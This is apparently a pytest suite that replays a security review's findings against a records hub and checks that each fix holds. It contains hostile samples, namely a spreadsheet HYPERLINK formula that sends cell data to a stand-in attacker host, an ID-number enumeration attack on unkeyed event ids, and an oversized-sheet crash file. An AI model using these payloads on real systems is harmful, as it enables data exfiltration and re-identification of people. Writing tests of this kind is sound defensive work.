"""Issue 16: each finding of the security review, reproduced against the hub.

Every test here is the attack as the review performed it (or the smallest faithful version of it) and
asserts that it no longer works. Each was run once against the code before the fixes and failed there
(RELIABILITY.md lists them). Real parts throughout: the session's embedded broker, real HTTP servers on
loopback, real spreadsheets, real PostgreSQL.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import subprocess
import sys
import tomllib
import uuid
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from connectors.examples.make_samples import synthetic_id
from connectors.sdk import testkit
from connectors.sdk.errors import RecordRejected
from connectors.sdk.mapping import MappingConfig, map_row
from connectors.sdk.records import Rejected
from connectors.sdk.runner import encode_event
from connectors.sinks.file_export import FileExportSink
from connectors.sinks.webhook import WebhookSink
from connectors.sources.file_drop import FileDropSource
from hub.deadletter import build_dead_letter, decrypt_original
from hub.errors import ValidationError
from hub.identity import check_character
from hub.timeutil import SHANGHAI
from tests.hostile.conftest import EXAMPLES, ingest, post
from tests.hostile.servers import Server, endless, redirect_to

ROOT = Path(__file__).parents[2]
ID = "530102199001011231"  # the review's example: valid (check character 1)
SECRET = "whsec_" + base64.b64encode(b"hostile-tests-webhook-secret-32b").decode()


def _roster_mapping() -> MappingConfig:
    import yaml

    return MappingConfig.model_validate(yaml.safe_load((EXAMPLES / "civil_affairs_roster.yaml").read_text())["mapping"])


# ---------------------------------------------------------------- 1. ID numbers recoverable from event_id


def _unkeyed_event_id(source: str, natural_key: list[Any], content: dict[str, Any]) -> str:
    """The review's attack: the formula event ids used to have (SHA-256, no key), recomputed for a guess."""
    blob = json.dumps([source, natural_key, content], ensure_ascii=False, sort_keys=True, default=str)
    return str(uuid.UUID(bytes=hashlib.sha256(blob.encode()).digest()[:16], version=5))


def test_1_an_event_id_does_not_give_the_id_number_away_by_enumeration() -> None:
    """From one published event (region, date and category in the clear) the attacker enumerates birth dates
    and sequence numbers and recomputes the event id for each guess. The guess space here holds the true
    number (±3 days × 1000 sequences); the event id must match no guess."""
    row = {"身份证号码": ID, "审批日期": "2024-03-04", "救助类别": "农村低保", "行政区划代码": "530102"}
    published = map_row(_roster_mapping(), row, source="civil-affairs-roster", pseudonym_key="a-secret-the-edge-holds")
    born = date(1990, 1, 1)
    found = []
    for day in (born + timedelta(days=d) for d in range(-3, 4)):
        for seq in range(1000):
            first17 = f"530102{day:%Y%m%d}{seq:03d}"
            guess = first17 + check_character(first17)
            cells = {**row, "身份证号码": guess}
            content = {"categories": cells["救助类别"], "occurred_at": cells["审批日期"], "person_token": guess,
                       "region_code": cells["行政区划代码"]}
            if _unkeyed_event_id("civil-affairs-roster", [guess, cells["审批日期"]], content) == \
                    published.value["event_id"]:
                found.append(guess)
    assert found == []
    again = map_row(_roster_mapping(), row, source="civil-affairs-roster", pseudonym_key="a-secret-the-edge-holds")
    assert again.value["event_id"] == published.value["event_id"]  # still deterministic: redeliveries match


# ---------------------------------------------------------------- 2. senders act on others' records (edge)


def test_2_the_charity_cannot_move_a_civil_affairs_referral(kafka_bootstrap: str) -> None:
    rid = "high_medical_burden:p_" + "0" * 32 + ":2024#1/civil_affairs/medical_assistance"
    body = {"person_token": "p_" + "0" * 32, "referral_id": rid, "status": "rejected", "reason": "no",
            "department": "charity", "occurred_at": "2024-03-09T10:00:00+08:00"}
    with ingest(kafka_bootstrap, "referral_updates.yaml") as src:
        status, text = post(f"http://127.0.0.1:{src.port}/v1/events", body, "dev-token-charity")
        assert status == 403 and "referral_id" in text
        on_hub = [r for r in testkit.read_topic(kafka_bootstrap, "department.referral-updates.v1")
                  if r.value["referral_id"] == rid]
        assert on_hub == []
        # The department it is addressed to may answer; its department comes from its token.
        del body["department"]
        status, _ = post(f"http://127.0.0.1:{src.port}/v1/events", body, "dev-token-civil-affairs")
        assert status == 202


def test_2_a_hospital_sends_only_as_itself(kafka_bootstrap: str) -> None:
    """H017's token naming H001 is refused; without a hospital_code the token's hospital is taken."""
    body = {"id_number": synthetic_id(901), "discharge_id": "ZY-0001", "discharged_at": "2024-05-10T10:00:00+08:00",
            "level": "L2", "in_county": True, "referred": False, "total_fen": 1, "out_of_policy_fen": 0,
            "occurred_at": "2024-05-10T10:00:00+08:00"}
    with ingest(kafka_bootstrap, "hospital_discharges.yaml") as src:
        url = f"http://127.0.0.1:{src.port}/v1/events"
        assert post(url, {**body, "hospital_code": "530102H001"}, "dev-token-shalang")[0] == 403
        status, text = post(url, body, "dev-token-shalang")
        assert status == 202, text
        event_id = json.loads(text)["event_id"]
    sent = [r.value for r in testkit.read_topic(kafka_bootstrap, "health.discharges.v1")
            if r.value["event_id"] == event_id]
    assert [v["hospital_code"] for v in sent] == ["530102H017"]


# ---------------------------------------------------------------- 3. the counter API has no authentication


def _counter(bootstrap: str, scenario: Any) -> Any:
    import asyncio

    from aiohttp.test_utils import TestClient, TestServer

    from hub.api import create_api

    async def main() -> Any:
        app = create_api(bootstrap, wait_seconds=0.5, tokens={"H001": "t" * 40, "H017": "u" * 40},
                         pseudonym_key="counter-key-" + "k" * 30)
        async with TestClient(TestServer(app)) as client:
            return await scenario(client)

    return asyncio.run(main())


def test_3_the_counter_api_needs_a_hospital_credential_and_takes_no_token(kafka_bootstrap: str) -> None:
    body = {"id_number": ID, "admission_id": "A1", "hospital_code": "H001", "hospital_level": "L2",
            "in_county": True, "admitted_at": "2024-05-01T08:30:00+08:00"}

    async def scenario(client: Any) -> list[int]:
        statuses = []
        for headers, payload in (({}, body),                                            # no token
                                 ({"Authorization": "Bearer guess"}, body),             # unknown token
                                 ({"Authorization": "Bearer " + "u" * 40}, body),       # H017 acting as H001
                                 ({"Authorization": "Bearer " + "t" * 40},              # a token in place of
                                  {**{k: v for k, v in body.items() if k != "id_number"},  # the ID number
                                   "person_token": "p_" + "a" * 32})):
            resp = await client.post("/v1/admissions", json=payload, headers=headers)
            statuses.append(resp.status)
            assert ID not in await resp.text()
        resp = await client.get("/v1/status/admission/A1")
        statuses.append(resp.status)
        return statuses

    assert _counter(kafka_bootstrap, scenario) == [401, 401, 403, 422, 401]


# ---------------------------------------------------------------- 4. development keys pass silently


def _run_connector(monkeypatch: pytest.MonkeyPatch, bootstrap: str, broker: str, example: Path,
                   **env: str) -> tuple[int, str]:
    from connectors.cli import connector_run
    from hub.config import get_settings

    monkeypatch.setenv("HUB_BROKER", broker)
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    get_settings.cache_clear()
    out, err = io.StringIO(), io.StringIO()
    try:
        code = connector_run(str(example), bootstrap, out, err, once=True)
    finally:
        get_settings.cache_clear()
    return code, err.getvalue()


def test_4_development_secrets_are_refused_outside_the_embedded_broker(monkeypatch: pytest.MonkeyPatch,
                                                                       kafka_bootstrap: str, tmp_path: Path) -> None:
    config = tmp_path / "updates.yaml"
    config.write_text((EXAMPLES / "referral_updates.yaml").read_text().replace("port: 8092", "port: 0"))
    code, err = _run_connector(monkeypatch, kafka_bootstrap, f"kafka://{kafka_bootstrap}", config)
    assert code == 2
    assert "HUB_PSEUDONYM_KEY" in err and "HUB_EDGE_KEY" in err and "tokens.charity" in err
    assert "dev-token-charity" not in err  # names the secret, never its value
    strong = {"HUB_PSEUDONYM_KEY": "p" * 40, "HUB_EDGE_KEY": base64.b64encode(b"e" * 32).decode(),
              **{f"HUB_TOKEN_{d}": d.lower() * 10 for d in ("CIVIL_AFFAIRS", "HEALTH", "INSURANCE",
                                                             "REVITALIZATION", "CHARITY")}}
    code, err = _run_connector(monkeypatch, kafka_bootstrap, f"kafka://{kafka_bootstrap}", config, **strong)
    assert code == 0, err


def test_4_on_the_embedded_broker_development_secrets_are_warned_about_loudly(
        monkeypatch: pytest.MonkeyPatch, kafka_bootstrap: str, tmp_path: Path) -> None:
    config = tmp_path / "updates.yaml"
    config.write_text((EXAMPLES / "referral_updates.yaml").read_text().replace("port: 8092", "port: 0"))
    code, err = _run_connector(monkeypatch, kafka_bootstrap, "embedded", config)
    assert code == 0
    assert "!!!" in err and "HUB_PSEUDONYM_KEY" in err and "tokens.civil_affairs" in err


def test_4_a_weak_counter_api_credential_is_refused_in_production(monkeypatch: pytest.MonkeyPatch) -> None:
    from hub.api import credentials
    from hub.config import Settings
    from hub.keys import WeakSecret

    prod = {"broker": "kafka://127.0.0.1:9", "pseudonym_key": "p" * 40}
    with pytest.raises(WeakSecret, match="HUB_API_TOKENS"):
        credentials(Settings(**prod))  # the built-in development credential
    with pytest.raises(WeakSecret, match="characters long"):
        credentials(Settings(**prod, api_tokens={"H001": "short"}))
    assert credentials(Settings(**prod, api_tokens={"H001": "x" * 40}))[0] == {"H001": "x" * 40}


# ---------------------------------------------------------------- 5. person_token has one shape


@pytest.mark.parametrize("token", ["ID530102199001011231", "530102-19900101-1231", "p_" + "A" * 32, "p_x",
                                   "p_" + "a" * 31, "p_" + "a" * 33, " p_" + "a" * 32, "p_" + "a" * 32 + "\n"])
def test_5_a_person_token_must_be_p_and_32_hex(token: str) -> None:
    value = {"event_id": "e1", "occurred_at": "2024-03-05T09:00:00+08:00", "person_token": token, "icd10": "I10"}
    with pytest.raises(RecordRejected) as exc:
        encode_event("hub.health.DiagnosisRecorded", value)
    assert exc.value.reason == "schema_mismatch" and "530102" not in exc.value.detail


# ---------------------------------------------------------------- 6. raw values in clear


def test_6_a_shifted_row_puts_no_id_number_in_dead_letters_or_the_rejects_report(tmp_path: Path) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    text = "身份证号码,审批日期,救助类别,行政区划代码\n" + f"{synthetic_id(5)},2024-03-04,{ID},530102\n"
    (inbox / "花名册.csv").write_bytes(text.encode("gbk"))
    src = testkit.build(FileDropSource, {"name": testkit.unique_name("shift"), "connector": "file_drop",
                                          "department": "civil_affairs", "topic": "civil-affairs.assistance-status.v1",
                                          "inbox": str(inbox), "settle_seconds": 0,
                                          "mapping": _roster_mapping().model_dump()})
    items = testkit.poll_all(src)
    rejected = [i for i, _ in items if isinstance(i, Rejected)]
    assert len(rejected) == 1 and "救助类别" in rejected[0].detail
    assert ID not in rejected[0].detail and ID[:14] not in rejected[0].detail
    report = "".join(p.read_text(encoding="utf-8") for p in (inbox / "processed").glob(".*.partial"))
    assert report and ID not in report and ID[:14] not in report


def test_6_http_ingest_does_not_echo_what_was_sent(kafka_bootstrap: str) -> None:
    body = {ID: "张三丰", "referral_id": "uninsured:p_" + "0" * 32 + ":2024#1/civil_affairs/premium_subsidy",
            "status": "nonsense", "department": "civil_affairs",
            "person_token": "p_" + "0" * 32, "occurred_at": "2024-03-09T10:00:00+08:00"}
    with ingest(kafka_bootstrap, "referral_updates.yaml") as src:
        status, text = post(f"http://127.0.0.1:{src.port}/v1/events", body, "dev-token-civil-affairs")
    assert status == 422
    assert ID not in text and ID[:14] not in text and "张三丰" not in text and "nonsense" not in text


def test_6_the_counter_api_does_not_echo_what_was_sent() -> None:
    from hub.api import InvalidRequest, parse_request

    body = {"id_number": ID[:17] + "0", ID: "张三丰", "admission_id": "A1", "hospital_level": "L9",
            "in_county": True, "admitted_at": "2024-05-01T08:30:00+08:00"}
    with pytest.raises(InvalidRequest) as exc:
        parse_request("admission", json.dumps(body).encode(), datetime.now(SHANGHAI), hospital="H001",
                      pseudonym_key="k" * 40)
    text = json.dumps(exc.value.errors, ensure_ascii=False)
    assert ID[:14] not in text and "张三丰" not in text and "L9" not in text


@pytest.mark.postgres
def test_6_sql_poll_keeps_no_id_number_in_its_offsets(kafka_bootstrap: str, pg_url: str) -> None:
    from sqlalchemy import create_engine, text

    from connectors.sources.sql_poll import SqlPollSource
    from hub.topics import CONNECTOR_OFFSETS

    number = synthetic_id(77)
    with create_engine(pg_url).begin() as c:
        c.execute(text("CREATE TABLE roster (certno varchar PRIMARY KEY, updt_time timestamp, insu_year int, "
                       "stas varchar, region varchar)"))
        c.execute(text("INSERT INTO roster VALUES (:n, '2024-01-02 08:00', 2024, '1', '530102')"), {"n": number})
    name = testkit.unique_name("keyed-by-id")
    src = testkit.build(SqlPollSource, {
        "name": name, "connector": "sql_poll", "department": "insurance", "topic": "insurance.enrollments.v1",
        "url": pg_url, "table": "roster", "cursor_column": "updt_time", "key_column": "certno",
        "mapping": {"natural_key": ["certno", "updt_time"], "fields": {
            "person_token": {"column": "certno", "type": "id_number"},
            "occurred_at": {"column": "updt_time", "type": "datetime"}, "year": {"column": "insu_year", "type": "year"},
            "enrolled": {"column": "stas", "type": "bool", "values": {"1": True}},
            "insured_region": {"column": "region"}}}})
    assert testkit.run_source(src, kafka_bootstrap).produced == 1
    from kafka import KafkaConsumer, TopicPartition

    consumer = KafkaConsumer(bootstrap_servers=kafka_bootstrap, enable_auto_commit=False)
    try:
        tp = TopicPartition(CONNECTOR_OFFSETS.name, 0)
        consumer.assign([tp])
        consumer.seek_to_beginning(tp)
        end = consumer.end_offsets([tp])[tp]
        raw = b""
        while consumer.position(tp) < end:
            for recs in consumer.poll(timeout_ms=500).values():
                raw += b"".join((r.key or b"") + (r.value or b"") for r in recs if name.encode() in (r.key or b""))
    finally:
        consumer.close()
    assert raw and number.encode() not in raw and number[:14].encode() not in raw
    # and a restart resumes after the row (the sealed key opens with the edge key): nothing re-sent
    again = testkit.build(SqlPollSource, src.config)
    assert testkit.run_source(again, kafka_bootstrap).produced == 0


# ---------------------------------------------------------------- 7. the webhook sink follows redirects


def _referral(kind: str, subject: str = "p_" + "1" * 32) -> dict[str, Any]:
    t0 = datetime(2024, 3, 5, 9, 0, tzinfo=SHANGHAI)
    return {"event_id": f"{kind}-0", "occurred_at": t0, "kind": "referral",
            "referral_id": f"high_medical_burden:{subject}:2024#1/civil_affairs/{kind}", "flag_id": "f",
            "subject": subject, "subject_kind": "person", "department": "civil_affairs", "referral_type": kind,
            "state": "open", "due": t0 + timedelta(days=7)}


def _deliver(bootstrap: str, url: str, kind: str, **extra: Any) -> Any:
    sink = testkit.build(WebhookSink, {"name": testkit.unique_name("hook"), "connector": "webhook",
                                        "topics": ["hub.referrals.v1"], "url": url, "secret": SECRET,
                                        "backoff_initial_seconds": 0.01, "backoff_max_seconds": 0.02,
                                        "filter": {"referral_type": [kind]}, **extra})
    return testkit.run_sink(sink, bootstrap)


@pytest.mark.parametrize("status", [307, 302])
def test_7_a_redirect_is_never_followed_and_never_counts_as_delivered(kafka_bootstrap: str, status: int) -> None:
    kind = testkit.unique_name("redirect")
    testkit.produce(kafka_bootstrap, "hub.referrals.v1", "hub.outputs.ReferralChanged", [_referral(kind)],
                    key_field="subject")
    with Server() as elsewhere, Server() as inbox:
        inbox.handler = redirect_to(elsewhere.url + "/steal", status)
        stats = _deliver(kafka_bootstrap, inbox.url.replace("127.0.0.1", "user:pw@127.0.0.1") + "/inbox", kind,
                         headers={"X-Api-Key": "secret-api-key"})
    assert elsewhere.seen == []  # neither the signed body nor the X-Api-Key went to the other origin
    assert (stats.delivered, stats.dead_lettered) == (0, 1)
    letter = next(d for d in testkit.read_topic(kafka_bootstrap, "hub.dead-letters.v1")
                  if d.value["reason"] == "delivery_refused" and kind.encode() in d.value["original"])
    assert "redirect" in letter.value["detail"] and "pw" not in letter.value["detail"]


def test_7_plain_http_to_another_host_is_refused() -> None:
    with pytest.raises(Exception, match="https"):
        testkit.config(WebhookSink, {"name": "x", "connector": "webhook", "topics": ["hub.referrals.v1"],
                                     "url": "http://inbox.example.gov.cn/hub", "secret": SECRET})


def test_7_an_endless_answer_is_read_bounded(kafka_bootstrap: str) -> None:
    kind = testkit.unique_name("endless")
    testkit.produce(kafka_bootstrap, "hub.referrals.v1", "hub.outputs.ReferralChanged", [_referral(kind)],
                    key_field="subject")
    with Server(handler=endless) as inbox:
        stats = _deliver(kafka_bootstrap, inbox.url + "/inbox", kind, timeout_seconds=5, max_attempts=1)
    assert (stats.delivered, stats.dead_lettered) == (1, 0)


# ---------------------------------------------------------------- 8. formula injection


def test_8_a_formula_in_a_facility_code_reaches_the_daily_workbook_as_text(kafka_bootstrap: str,
                                                                           tmp_path: Path) -> None:
    kind = testkit.unique_name("staffing")
    evil = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
    event = {**_referral(kind, subject=evil), "subject_kind": "facility",
             "referral_id": f"facility_gap:{evil}#1/civil_affairs/{kind}"}
    testkit.produce(kafka_bootstrap, "hub.referrals.v1", "hub.outputs.ReferralChanged", [event], key_field="subject")
    sink = testkit.build(FileExportSink, {"name": testkit.unique_name("export"), "connector": "file_export",
                                           "out_dir": str(tmp_path), "filter": {"referral_type": [kind]}})
    testkit.run_sink(sink, kafka_bootstrap)
    ws = load_workbook(next(tmp_path.rglob("*.xlsx"))).active
    cells = [c for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


# ---------------------------------------------------------------- 9. file_drop


def _inbox(tmp_path: Path, **extra: Any) -> FileDropSource:
    (tmp_path / "in").mkdir(exist_ok=True)
    return testkit.build(FileDropSource, {"name": testkit.unique_name("drop"), "connector": "file_drop",
                                          "department": "civil_affairs", "topic": "civil-affairs.assistance-status.v1",
                                          "inbox": str(tmp_path / "in"), "settle_seconds": 0, "patterns": ["*"],
                                          "mapping": _roster_mapping().model_dump(), **extra})


def test_9_one_cell_at_xfd1048576_does_not_take_the_connector_down(tmp_path: Path) -> None:
    """calamine allocates the sheet's whole extent (512 GiB here) and aborts the process: run the poll in a child
    process, so the test reports the crash instead of dying with it."""
    wb = Workbook()
    wb.active.append(["身份证号码", "审批日期", "救助类别", "行政区划代码"])
    wb.active["XFD1048576"] = "x"
    (tmp_path / "in").mkdir()
    wb.save(tmp_path / "in" / "bomb.xlsx")
    assert (tmp_path / "in" / "bomb.xlsx").stat().st_size < 10_000
    script = f"""
import json
from pathlib import Path
from connectors.sdk import testkit
from connectors.sources.file_drop import FileDropSource
from tests.hostile.test_findings import _inbox
src = _inbox(Path({str(tmp_path)!r}))
items = testkit.poll_all(src)
src.committed({{o.partition: o.position for _, o in items}})
print(json.dumps([[type(i).__name__, getattr(i, "reason", None)] for i, _ in items]))
"""
    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == [["Rejected", "unreadable_file"]]
    assert not (tmp_path / "in" / "bomb.xlsx").exists()  # moved aside: no crash loop on the next poll


def test_9_a_symlink_in_the_inbox_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere.csv"
    secret.write_text(f"身份证号码,审批日期,救助类别,行政区划代码\n{synthetic_id(8)},2024-03-04,农村低保,530102\n")
    src = _inbox(tmp_path)
    (tmp_path / "in" / "link.csv").symlink_to(secret)
    items = testkit.poll_all(src)
    assert [(type(i).__name__, getattr(i, "reason", None)) for i, _ in items] == [("Rejected", "unreadable_file")]
    assert "symbolic link" in items[0][0].detail
    src.committed({o.partition: o.position for _, o in items if o})
    assert secret.exists() and not (tmp_path / "in" / "link.csv").is_symlink()


def test_9_a_file_over_the_size_cap_is_refused_unread(tmp_path: Path) -> None:
    src = _inbox(tmp_path, max_file_bytes=1000)
    (tmp_path / "in" / "big.csv").write_text("身份证号码,审批日期,救助类别,行政区划代码\n" + "x," * 1000)
    items = testkit.poll_all(src)
    assert items[0][0].reason == "unreadable_file" and "max_file_bytes" in items[0][0].detail


# ---------------------------------------------------------------- 10. nesting and item counts


def test_10_deep_json_is_a_4xx_and_a_dead_letter_not_a_500(kafka_bootstrap: str) -> None:
    with ingest(kafka_bootstrap, "referral_updates.yaml") as src:
        url = f"http://127.0.0.1:{src.port}/v1/events"
        status, text = post(url, b"[" * 100_000 + b"]" * 100_000, "dev-token-civil-affairs")
        assert status == 413 and "Traceback" not in text
        many = json.dumps([1] * 20_000).encode()
        status, _ = post(url, many, "dev-token-civil-affairs")
        assert status == 413
        letters = testkit.dead_letters(kafka_bootstrap, src.config.name)
    assert sorted(d["reason"] for d in letters) == ["request_too_large", "request_too_large"]


def test_10_the_counter_api_refuses_deep_json_with_a_4xx() -> None:
    from hub.api import InvalidRequest, parse_request

    with pytest.raises(InvalidRequest):
        parse_request("admission", b"{\"a\":" * 50_000 + b"1" + b"}" * 50_000, datetime.now(SHANGHAI),
                      hospital="H001", pseudonym_key="k" * 40)


# ---------------------------------------------------------------- 11. dependencies, associated data


def test_11_dependencies_are_declared_and_bounded() -> None:
    deps = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    by_name = {d.split(">")[0].split("=")[0].split("<")[0].split("[")[0].strip().lower(): d for d in deps}
    assert "aiokafka" in by_name
    for name in ("aiohttp", "cryptography", "pyyaml", "sqlalchemy", "openpyxl"):
        assert "<" in by_name[name] or "==" in by_name[name], by_name[name]
    assert ">=3.12.14" in by_name["aiohttp"]


def test_11_an_encrypted_original_cannot_be_moved_to_another_reason_or_place() -> None:
    key = bytes(range(32))
    letter = build_dead_letter(b'{"id": "' + ID.encode() + b'"}', "file_drop:x", "invalid_id_number", "d",
                               encrypt_with=key)
    assert decrypt_original(letter, key).startswith(b'{"id"')
    for change in ({"reason": "invalid_input"}, {"topic": "health.admissions.v1", "partition": 1, "offset": 5}):
        with pytest.raises(ValidationError):
            decrypt_original(letter.model_copy(update=change), key)


# ---------------------------------------------------------------- ID numbers are text


def test_an_excel_number_in_an_id_column_is_rejected_not_converted(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(["身份证号码", "审批日期", "救助类别", "行政区划代码"])
    ws.append([int(synthetic_id(11)), "2024-03-04", "农村低保", "530102"])  # Excel keeps 15 digits of it
    ws.append([synthetic_id(12), "2024-03-04", "农村低保", "530102"])
    (tmp_path / "in").mkdir()
    wb.save(tmp_path / "in" / "roster.xlsx")
    items = [i for i, _ in testkit.poll_all(_inbox(tmp_path))]
    assert [type(i).__name__ for i in items] == ["Rejected", "SourceRecord"]
    assert items[0].reason == "invalid_id_number" and "not text" in items[0].detail
    assert items[1].value["person_token"] == testkit.token(synthetic_id(12))


def test_scientific_notation_from_a_csv_is_rejected(tmp_path: Path) -> None:
    src = _inbox(tmp_path)
    rows = [["身份证号码", "审批日期", "救助类别", "行政区划代码"], ["4.30511E+17", "2024-03-04", "农村低保", "530102"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (tmp_path / "in" / "r.csv").write_bytes(buf.getvalue().encode("gbk"))
    items = [i for i, _ in testkit.poll_all(src)]
    assert items[0].reason == "invalid_id_number" and "scientific" in items[0].detail
